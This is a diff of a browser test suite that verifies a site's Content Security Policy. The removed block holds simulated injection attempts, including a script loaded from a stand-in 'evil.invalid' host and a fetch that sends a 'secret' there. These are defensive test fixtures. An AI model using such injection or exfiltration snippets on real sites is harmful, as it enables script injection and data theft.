@@ -4,6 +4,7 @@ import assert from 'node:assert/strict';
 import { once } from 'node:events';
 import { createServer } from 'node:http';
 
+import { attacks } from './support/attacks.mjs';
 import { settled } from './support/page.mjs';
 import { browserSuite } from './support/suite.mjs';
 
@@ -25,6 +26,9 @@ const headerPolicy =
 
 /** @param {string | null | undefined} policy @returns {string[]} directives, whose order is free */
 const directives = (policy) => (policy ?? '').split('; ').sort();
+
+/** @param {string} type of an answer that is never a document */
+const isInert = (type) => /^(text\/(css|javascript)|application\/(json|wasm))\b/.test(type);
 
 /**
  * Violations are told late. One that is provoked is told behind all that were before it.
@@ -51,85 +55,6 @@ async function violationsSoFar({ page, console, violations }) {
   console.splice(0, console.length, ...kept);
   return others;
 }
-
-/**
- * What content and scripts that came in somehow would try; each works, or throws.
- * @type {Record<string, { attempt: () => unknown, violates: RegExp }>}
- */
-const attacks = {
-  'an inline script': {
-    attempt: () => {
-      const script = document.createElement('script');
-      script.append('window.injected = true');
-      document.body.append(script);
-    },
-    violates: /^(script-src-elem|require-trusted-types-for) /,
-  },
-  innerHTML: {
-    attempt: () => {
-      document.createElement('div').innerHTML = '<b>x</b>';
-    },
-    violates: /^require-trusted-types-for .*innerHTML/,
-  },
-  'a script of another site': {
-    attempt: () => {
-      const script = document.createElement('script');
-      Reflect.set(script, 'src', 'https://evil.invalid/x.js');
-      document.body.append(script);
-    },
-    violates: /^(require-trusted-types-for|script-src-elem) /,
-  },
-  eval: {
-    // Later, because what a test runs directly may do this.
-    attempt: () =>
-      new Promise((resolve, reject) =>
-        setTimeout(() => {
-          try {
-            resolve(globalThis.eval('window.injected = true'));
-          } catch (error) {
-            reject(error);
-          }
-        }),
-      ),
-    violates: /^(require-trusted-types-for|script-src) /,
-  },
-  'an event handler': {
-    attempt: () => {
-      document.body.setAttribute('onclick', 'window.injected = true');
-    },
-    violates: /^(require-trusted-types-for|script-src-attr) /,
-  },
-  'a policy of its own': {
-    attempt: () => {
-      /** @type {any} */ (window).trustedTypes.createPolicy('evil', {});
-    },
-    violates: /^trusted-types trusted-types-policy evil/,
-  },
-  'a style attribute': {
-    attempt: () => document.body.setAttribute('style', 'color: red'),
-    violates: /^style-src-attr inline/,
-  },
-  'a request to another site': {
-    attempt: () => void fetch('https://evil.invalid/?secret').catch(() => {}),
-    violates: /^connect-src https:\/\/evil\.invalid\//,
-  },
-  'a frame': {
-    attempt: () => {
-      const frame = document.createElement('iframe');
-      frame.src = 'https://evil.invalid/';
-      document.body.append(frame);
-    },
-    violates: /^(frame-src|default-src) https:\/\/evil\.invalid/,
-  },
-  'another base address': {
-    attempt: () => {
-      const base = document.createElement('base');
-      base.href = 'https://evil.invalid/';
-      document.head.append(base);
-    },
-    violates: /^base-uri https:\/\/evil\.invalid/,
-  },
-};
 
 /** @param {Watched} watched */
 async function attackAll(watched) {
@@ -188,13 +113,24 @@ async function walk(watched, url) {
   assert.equal(watched.console.splice(0).length, 1, 'the address that is wrong is reported');
 }
 
-test('the header and the page say what was designed', async ({ open }) => {
-  const { page, requests } = await open('?post=doha-joint-declaration');
-  const answers = requests.filter(({ url }) => url.startsWith('http'));
-  assert.ok(answers.length >= 5, `${answers.length} answers`);
-  for (const { url, headers } of answers) {
+test('the header and the page say what was designed', async ({ open, url }) => {
+  const { page, requests, notes } = await open('?post=doha-joint-declaration');
+  // All that a browser may make a document of: pages, pictures with scripts in them, errors.
+  await page.evaluate(async () => {
+    for (const name of ['nothing.html', 'words/fa.txt']) await (await fetch(name)).text();
+  });
+  await page.waitForLoadState('networkidle');
+  const answers = requests.filter(({ headers }) => !isInert(headers['content-type']));
+  const names = answers.map((answer) => answer.url.slice(url.length)).sort();
+  assert.deepEqual(names, [
+    '?post=doha-joint-declaration',
+    'content/images/doha-round-table.svg',
+    'nothing.html',
+    'words/fa.txt',
+  ]);
+  for (const { url: address, headers } of answers) {
     const policy = headers['content-security-policy'];
-    assert.deepEqual(directives(policy), directives(headerPolicy), url);
+    assert.deepEqual(directives(policy), directives(headerPolicy), address);
   }
   const metas = page.locator('meta[http-equiv="Content-Security-Policy"]');
   assert.equal(await metas.count(), 1);
@@ -203,6 +139,7 @@ test('the header and the page say what was designed', async ({ open }) => {
   assert.equal(before, '<meta charset="utf-8">', 'nothing loads before the policy is known');
   const others = directives(headerPolicy).filter((one) => one !== "frame-ancestors 'none'");
   assert.deepEqual(directives(metaPolicy), others);
+  assert.equal(notes.splice(0).length, 1, 'there is no nothing.html');
 });
 
 test('a whole walk stays within the policy and on the site', async ({ blank, url }) => {
